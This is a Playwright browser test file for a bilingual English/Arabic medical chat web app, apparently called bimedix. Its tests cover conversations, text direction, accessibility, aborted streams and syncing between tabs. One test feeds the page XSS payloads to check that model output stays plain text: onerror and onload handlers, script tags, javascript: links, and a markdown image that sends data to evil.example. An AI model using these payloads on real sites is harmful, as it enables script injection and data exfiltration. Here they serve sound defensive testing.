/// <reference lib="dom" />
/// <reference lib="dom.iterable" />
/** The web page in a real browser: Chromium, by playwright-core. Skipped where there is none. */
import assert from "node:assert/strict";
import { existsSync } from "node:fs";
import { mkdir } from "node:fs/promises";
import { createRequire } from "node:module";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { type Browser, type BrowserContext, chromium, type Page } from "playwright-core";
import { root } from "../fixtures.js";
import { start, type TestServer } from "./server.js";

const candidates = [process.env.CHROMIUM, "/usr/bin/chromium", "/usr/bin/chromium-browser", "/usr/bin/google-chrome"];
const executablePath = candidates.find((path) => path && existsSync(path));
const axe = createRequire(import.meta.url).resolve("axe-core/axe.min.js");
/** BIMEDIX_SCREENSHOTS=docs writes the pictures that the README shows. */
const pictures = process.env.BIMEDIX_SCREENSHOTS;

describe("the page in Chromium", { skip: executablePath ? false : "no Chromium here; set CHROMIUM" }, () => {
  let at: TestServer;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  const problems: string[] = [];

  before(async () => {
    at = await start({ pretrained: { dtype: "q8", threads: 1 }, allow_hosts: ["bimedix.test"] });
    const args = ["--no-sandbox", "--host-resolver-rules=MAP bimedix.test 127.0.0.1"];
    browser = await chromium.launch({ executablePath: executablePath!, args });
  });
  after(async () => {
    await browser.close();
    await at.server.stop(1);
  });

  async function open(locale: "en" | "ar", width = 1100, url = at.url): Promise<void> {
    await context?.close();
    context = await browser.newContext({ locale, viewport: { width, height: 760 } });
    // A script that CSP or a library's name stops would only be a line in the console.
    page = await context.newPage();
    problems.length = 0;
    page.on("pageerror", (error) => problems.push(error.message));
    page.on("console", (message) => message.type() === "error" && problems.push(message.text()));
    await page.goto(url);
    await page.waitForSelector("header select option", { state: "attached" });
  }
  const ask = async (text: string) => {
    await page.locator(".composer textarea").fill(text);
    await page.keyboard.press("Enter");
  };
  const answered = () => page.waitForSelector('[role="log"][aria-busy="false"] article.assistant:last-of-type p');
  /** From here on the test writes the page's answers: a piece to the nth that was asked for, or its end. */
  async function answer_by_hand(): Promise<{
    write: (n: number, piece: string) => Promise<void>;
    end: (n: number) => Promise<void>;
    aborted: (n: number) => Promise<boolean>;
  }> {
    const hand = await page.evaluateHandle(() => {
      const { fetch } = globalThis;
      const answers: { stream: ReadableStreamDefaultController<Uint8Array>; signal: AbortSignal }[] = [];
      globalThis.fetch = async (url, init) => {
        if (url !== "/v1/chat/completions") return fetch(url, init);
        const signal = init!.signal!;
        const start = (stream: ReadableStreamDefaultController<Uint8Array>) => {
          answers.push({ stream, signal });
          signal.onabort = () => stream.error(signal.reason);
        };
        return new Response(new ReadableStream({ start }));
      };
      const send = (n: number, data: string) =>
        answers[n]!.stream.enqueue(new TextEncoder().encode(`data: ${data}\n\n`));
      return { send, aborted: (n: number) => answers[n]!.signal.aborted };
    });
    const send = (n: number, data: string) => hand.evaluate(({ send }, [n, data]) => send(n, data), [n, data] as const);
    return {
      write: (n, piece) => send(n, JSON.stringify({ choices: [{ delta: { content: piece } }] })),
      end: (n) => send(n, "[DONE]"),
      aborted: (n) => hand.evaluate(({ aborted }, n) => aborted(n), n),
    };
  }
  const picture = async (name: string) => {
    if (!pictures) return;
    await mkdir(join(root, pictures), { recursive: true });
    await page.screenshot({ path: join(root, pictures, `${name}.png`) });
  };
  /** Faults that axe finds serious or worse. */
  async function faults(): Promise<string[]> {
    // CSP lets no script in, so this one comes with the debugger.
    await page.evaluate((await import("node:fs")).readFileSync(axe, "utf8"));
    const found = await page.evaluate(() =>
      (
        globalThis as unknown as {
          axe: { run(): Promise<{ violations: { id: string; impact: string; nodes: { html: string }[] }[] }> };
        }
      ).axe.run(),
    );
    return found.violations
      .filter(({ impact }) => impact === "serious" || impact === "critical")
      .map(({ id, nodes }) => `${id}: ${nodes[0]!.html}`);
  }
  const direction = (selector: string) =>
    page
      .locator(selector)
      .last()
      .evaluate((element) => getComputedStyle(element).direction);

  test("an English conversation, edited, answered again and kept over a reload", async () => {
    await open("en");
    assert.match(await page.locator(".notice").innerText(), /not medical advice/);
    await ask("What are the signs of diabetes?");
    await answered();
    const first = await page.locator("article.assistant").last().innerText();
    assert.ok(first.length > 20, first);
    assert.equal(await direction("article.assistant p"), "ltr");
    await picture("chat-en");
    assert.deepEqual(await faults(), []);

    await page.locator("article.user .actions button").click();
    await page.locator("article.user textarea").fill("What are the signs of asthma?");
    await page.locator('article.user button[type="submit"]').click();
    await answered();
    assert.equal(await page.locator("article").count(), 2);
    await page.locator("article.assistant .actions button").click();
    await answered();
    const before_reload = await page.locator(".messages").innerText();
    await page.reload();
    await page.waitForSelector("article.assistant p");
    assert.equal(await page.locator(".messages").innerText(), before_reload);

    await page.locator("aside section > button").click();
    assert.equal(await page.locator("article").count(), 0);
    assert.equal(await page.locator(".conversations li").count(), 2);
    assert.deepEqual(problems, []);
    // Nothing of it is on the server.
    assert.ok(!JSON.stringify(at.lines).includes("asthma"));
  });

  test("the page by http from another machine, where a browser withholds some of its functions", async () => {
    await open("en", 1100, at.url.replace("127.0.0.1", "bimedix.test"));
    assert.equal(await page.evaluate(() => isSecureContext), false);
    await ask("What is gout?");
    await answered();
    assert.deepEqual(problems, []);
  });

  test("an Arabic conversation, from right to left, with English words inside", async () => {
    await open("ar");
    assert.equal(await page.evaluate(() => document.documentElement.dir), "rtl");
    assert.match(await page.locator(".notice").innerText(), /ليس نصيحة طبية/);
    const field = page.locator("textarea[placeholder]");
    assert.equal(await direction("textarea[placeholder]"), "rtl");
    await field.fill("asthma");
    assert.equal(await direction("textarea[placeholder]"), "ltr");
    await ask("ما هي أعراض السكري؟");
    await answered();
    assert.equal(await direction("article.assistant p"), "rtl");
    assert.equal(await direction("article.user .said"), "rtl");
    const [aside, main] = await Promise.all(["aside", "main"].map((part) => page.locator(part).boundingBox()));
    assert.ok(aside!.x > main!.x, "the conversations are on the right");
    await picture("chat-ar");
    assert.deepEqual(await faults(), []);
    await ask("What is asthma?");
    await answered();
    assert.equal(await direction("article.user .said"), "ltr");
    assert.deepEqual(problems, []);
  });

  test("an answer is stopped in the middle, and the server hears of it", async () => {
    await open("en");
    await page.evaluate(() => {
      const settings = JSON.parse(localStorage.getItem("bimedix.settings") ?? "{}");
      localStorage.setItem("bimedix.settings", JSON.stringify({ ...settings, temperature: 2, max_tokens: 900 }));
    });
    await page.reload();
    await page.waitForSelector("header select option", { state: "attached" });
    // The answer does not end by itself, and fifteen others beside it give the hand its time.
    const completions = "/v1/chat/completions";
    await page.route(`**${completions}`, (route) =>
      route.continue({ postData: JSON.stringify({ ...route.request().postDataJSON(), ignore_eos: true }) }),
    );
    const others = new AbortController();
    const beside = { model: "nano", messages: [{ role: "user", content: "What is gout?" }], n: 15, max_tokens: 900 };
    const answers = fetch(at.url + completions, {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ ...beside, ignore_eos: true }),
      signal: others.signal,
    }).catch(() => "left");
    await ask("What is asthma?");
    await page.waitForSelector("article.assistant p");
    await page.locator(".composer button").click();
    await page.waitForSelector("article.assistant .problem");
    others.abort();
    assert.equal(await answers, "left");
    await page.unroute(`**${completions}`);
    for (let waited = 0; at.server.service.active > 0 && waited < 5000; waited += 20)
      await new Promise((resume) => setTimeout(resume, 20));
    assert.equal(at.server.service.active, 0);
  });

  test("answers go on where they are not shown, each in its own conversation, and end with it", async () => {
    await open("en");
    const hand = await answer_by_hand();
    const stop = page.locator(".composer button", { hasText: "Stop" });
    const said = (text: string) => page.waitForSelector(`article.assistant:last-of-type p:text-is("${text}")`);
    const conversations = page.locator(".conversations li");
    const show_view = (i: number) => page.locator("aside nav button").nth(i).click();
    await ask("one");
    await hand.write(0, "first");
    await said("first");
    await page.locator("aside section > button").click();
    assert.equal(await stop.count(), 0);
    await ask("two");
    await hand.write(1, "second");
    await said("second");
    await hand.write(0, " goes on");
    await show_view(3);
    await show_view(0);
    await said("second");
    assert.equal(await stop.count(), 1);

    await conversations.nth(1).locator("button").first().click();
    await said("first goes on");
    assert.equal(await stop.count(), 1);
    assert.equal(await page.locator("article .actions").count(), 0, "nothing is edited or asked again meanwhile");
    await hand.write(0, " to its end");
    await hand.end(0);
    await said("first goes on to its end");
    await page.waitForSelector('[role="log"][aria-busy="false"]');
    assert.match(await page.locator('.chat [role="status"]').innerText(), /to its end/);
    assert.equal(await hand.aborted(1), false);

    // Deleted while another is shown, stopped after a look elsewhere, and all deleted.
    await conversations.nth(0).locator("button").last().click();
    assert.equal(await hand.aborted(1), true);
    assert.equal(await page.locator("article").count(), 2);
    await ask("three");
    await hand.write(2, "third");
    await said("third");
    await show_view(3);
    await show_view(0);
    await stop.click();
    await page.waitForSelector("article.assistant:last-of-type .problem");
    assert.equal(await hand.aborted(2), true);
    await ask("four");
    await hand.write(3, "fourth");
    await show_view(3);
    page.once("dialog", (dialog) => dialog.accept());
    await page.locator(".page .danger").click();
    assert.equal(await hand.aborted(3), true);
    await show_view(0);
    assert.equal(await page.locator("article").count(), 0);
    assert.equal(await stop.count(), 0);
    assert.deepEqual(problems, []);
  });

  test("two tabs: each takes up what the other writes and deletes, and what was kept under one key", async () => {
    await open("en");
    const first = page;
    const second = await context.newPage();
    await second.goto(at.url);
    await second.waitForSelector("header select option", { state: "attached" });
    const title = (tab: Page, text: string) => tab.locator(".conversations li", { hasText: text });
    const hand = await answer_by_hand();
    await ask("one");
    await hand.write(0, "first");
    await hand.end(0);
    await title(second, "one").waitFor();
    page = second;
    const other = await answer_by_hand();
    await ask("two");
    await other.write(0, "second");
    await title(first, "two").waitFor();
    page = first;
    await page.locator("aside section > button").click();
    await ask("three");
    await hand.end(1);
    await title(second, "three").waitFor();
    await other.write(0, " and more");
    await first.reload();
    await title(first, "two").locator("button").first().click();
    await first.waitForSelector('article p:text-is("second and more")');
    assert.equal(await first.locator(".conversations li").count(), 3);
    await first.locator("header > button[lang]").click();
    await second.waitForSelector('html[dir="rtl"]');

    // Deleted in one tab while the other writes its answer.
    await title(first, "two").locator("button").last().click();
    await title(second, "two").waitFor({ state: "detached" });
    assert.equal(await other.aborted(0), true);
    await second.evaluate(() => {
      const said = (id: string, content: string) => ({ id, messages: [{ role: "user", content }] });
      const conversations = [said("5f", "before"), said("a0", "long before")];
      localStorage.setItem("bimedix", JSON.stringify({ conversations, current: "5f" }));
    });
    for (let i = 0; i < 2; i++) {
      await second.reload();
      await title(second, "long before").waitFor();
      const titles = await second.locator(".conversations li button:first-child").allInnerTexts();
      assert.deepEqual(titles, ["three", "one", "before", "long before"]);
      await second.locator("header > button[lang]").click();
      assert.equal(await second.evaluate(() => localStorage.getItem("bimedix")), null);
    }
    // As if this tab had written a word between the other's deletion and the news of it.
    const left = await second.evaluate(() => {
      const key = "bimedix.conversation.0-000000";
      dispatchEvent(new StorageEvent("storage", { key, newValue: null }));
      return localStorage.getItem(key);
    });
    assert.equal(left, null);
    await title(second, "long before").waitFor({ state: "detached" });
  });

  test("what a model writes stays text: tags, scripts, addresses, pictures, deep quotes, tables of both directions", async () => {
    await open("en");
    const hostile = [
      '<img src=x onerror="globalThis.hacked=1"> <script>globalThis.hacked=1</script>',
      "[here](javascript:globalThis.hacked=1) [data](data:text/html,<script>1</script>) [good](https://example.org/)",
      "![pixel](https://evil.example/?q=secret)",
      "<details open ontoggle=globalThis.hacked=1><svg onload=globalThis.hacked=1>",
      `${">".repeat(10_000)} deep`,
      "| الدواء | dose |\n| --- | --- |\n| الأنسولين | 5 mg |",
      "`code في السطر`",
    ].join("\n\n");
    await page.route("**/v1/chat/completions", (route) => {
      const chunk = { choices: [{ index: 0, delta: { content: hostile }, finish_reason: null }] };
      return route.fulfill({
        contentType: "text/event-stream",
        body: `data: ${JSON.stringify(chunk)}\n\ndata: [DONE]\n\n`,
      });
    });
    const requested: string[] = [];
    page.on("request", (request) => requested.push(request.url()));
    await ask("x");
    await page.waitForSelector("article.assistant table");
    await page.waitForTimeout(200);
    assert.equal(await page.evaluate(() => (globalThis as { hacked?: number }).hacked), undefined);
    assert.equal(await page.locator("article img, article script, article svg, article details").count(), 0);
    assert.deepEqual(
      await page.locator("article a").evaluateAll((links) => links.map((link) => (link as HTMLAnchorElement).href)),
      ["https://example.org/"],
    );
    assert.ok(
      requested.every((url) => url.startsWith(at.url)),
      String(requested),
    );
    assert.match(await page.locator("article.assistant").last().innerText(), /<img src=x onerror/);
    assert.equal(await direction("article.assistant table"), "rtl");
    assert.equal(await direction("article.assistant bdi code"), "ltr");
    // A stream that is cut in the middle of an event, and a full storage.
    await page.unroute("**/v1/chat/completions");
    await page.route("**/v1/chat/completions", (route) =>
      route.fulfill({
        contentType: "text/event-stream",
        body: 'data: {"choices":[{"index":0,"delta":{"content":"half"},"fin',
      }),
    );
    await page.evaluate(() => {
      Storage.prototype.setItem = () => {
        throw new DOMException("full", "QuotaExceededError");
      };
    });
    await ask("y");
    await page.waitForSelector("article.assistant:last-of-type .problem");
    assert.match(await page.locator('main > [role="alert"]').innerText(), /storage is full/);
  });

  test("lists of both directions; digits in one shape in words, not in list marks, addresses and code", async () => {
    await open("ar");
    const hand = await answer_by_hand();
    await ask("x");
    const lines = [
      "1. خذ 500 ملغ، **3** مرات، `x = 10`",
      "2. Insulin 20 units",
      "",
      "[دليل 2024](https://example.org/2024) https://example.org/7 &#39;9&#39;",
    ];
    await hand.write(0, lines.join("\n"));
    await hand.end(0);
    await page.waitForSelector('[role="log"][aria-busy="false"] article.assistant li');
    const directions = (selector: string) =>
      page.locator(selector).evaluateAll((all) => all.map((one) => getComputedStyle(one).direction));
    assert.deepEqual(await directions("article ol"), ["rtl"]);
    assert.deepEqual(await directions("article li"), ["rtl", "ltr"]);

    await page.locator("aside nav button").nth(3).click();
    await page.locator(".page select").nth(2).selectOption("arabic");
    await page.locator("aside nav button").nth(0).click();
    assert.deepEqual(await page.locator("article li").allInnerTexts(), [
      "خذ ٥٠٠ ملغ، ٣ مرات، x = 10",
      "Insulin ٢٠ units",
    ]);
    const mark = page.locator("article ol").evaluate((list) => getComputedStyle(list).listStyleType);
    assert.equal(await mark, "arabic-indic");
    assert.equal(await page.locator("article.assistant > p").innerText(), "دليل ٢٠٢٤ https://example.org/7 '٩'");
    assert.deepEqual(
      await page.locator("article a").evaluateAll((links) => links.map((link) => link.getAttribute("href"))),
      ["https://example.org/2024", "https://example.org/7"],
    );
    assert.deepEqual(problems, []);
  });

  test("by keys alone: the focus goes on beside what was pressed, and waiting and results are said", async () => {
    await open("en");
    assert.match(await page.locator(".empty").innerText(), /kept in this browser only/);
    const hand = await answer_by_hand();
    const press = async (selector: string) => {
      await page.locator(selector).last().focus();
      await page.keyboard.press("Enter");
    };
    const focused = (selector: string) => page.waitForSelector(`${selector}:focus`);
    const end_answer = async (n: number) => {
      await hand.write(n, "yes");
      await hand.end(n);
      await answered();
    };
    await ask("one");
    await end_answer(0);
    await press("article.user .actions button");
    await focused("article.user textarea");
    await press("article.user form .quiet");
    await focused("article.user .actions button");
    await page.keyboard.press("Enter");
    await focused("article.user textarea");
    await press('article.user [type="submit"]');
    await focused(".composer textarea");
    await end_answer(1);
    await press("article.assistant .actions button");
    await focused(".composer textarea");
    await press(".composer button");
    await focused(".composer textarea");
    await press(".conversations button");
    await focused("aside section > button");

    const status = (text: RegExp) => page.locator('[role="status"]', { hasText: text }).waitFor({ state: "attached" });
    for (const [view, path, result] of [
      [1, "**/v1/mcqa", /^Likeliest: [A-D]\. The .+%$/],
      [2, "**/v1/routing", /experts of both texts are shown/],
    ] as const) {
      let let_go!: () => void;
      const held = new Promise<void>((resolve) => {
        let_go = resolve;
      });
      await page.route(path, (route) => held.then(() => route.continue()));
      await page.locator("aside nav button").nth(view).click();
      await press('.page [type="submit"]');
      await status(/^Waiting/);
      let_go();
      await status(result);
    }
    assert.deepEqual(problems, []);
  });

  test("questions with options, routing and settings, in both languages and on a phone", async () => {
    for (const [locale, width] of [
      ["en", 1100],
      ["ar", 390],
    ] as const) {
      await open(locale, width);
      const views = page.locator("aside nav button");
      const show = async (i: number) => {
        if (width < 700) await page.locator("header .menu").click();
        await views.nth(i).click();
      };
      assert.ok(
        await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth),
        "nothing beside the screen",
      );
      await picture(`phone-${locale}`);
      await show(1);
      await page.locator('.page button[type="submit"]').click();
      await page.waitForSelector(".bars li");
      assert.equal(await page.locator(".bars li").count(), 4);
      assert.deepEqual(await faults(), []);
      await picture(`mcqa-${locale}`);
      await show(2);
      await page.locator('.page button[type="submit"]').click();
      await page.waitForSelector(".heat .cell");
      assert.equal(await page.locator(".heat").count(), 2);
      assert.deepEqual(
        await page.locator(".heat").evaluateAll((all) => all.map((one) => getComputedStyle(one).direction)),
        ["ltr", "rtl"],
      );
      assert.deepEqual(await faults(), []);
      await picture(`routing-${locale}`);
      await show(3);
      await page.locator(".page select").nth(1).selectOption("dark");
      assert.deepEqual(await faults(), []);
      assert.ok(
        await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth),
        "nothing beside the screen",
      );
      assert.deepEqual(problems, []);
    }
  });
});
